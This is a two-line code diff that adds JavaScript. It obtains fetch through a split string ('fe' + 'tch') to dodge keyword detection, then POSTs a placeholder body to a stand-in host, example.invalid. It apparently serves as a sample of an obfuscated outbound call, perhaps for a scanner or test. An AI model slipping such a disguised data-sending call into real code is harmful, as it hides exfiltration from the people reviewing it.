@@ -1,0 +1,2 @@
+const send = globalThis['fe' + 'tch'];
+send('https://example.invalid/in', { method: 'POST', body: 'x' });
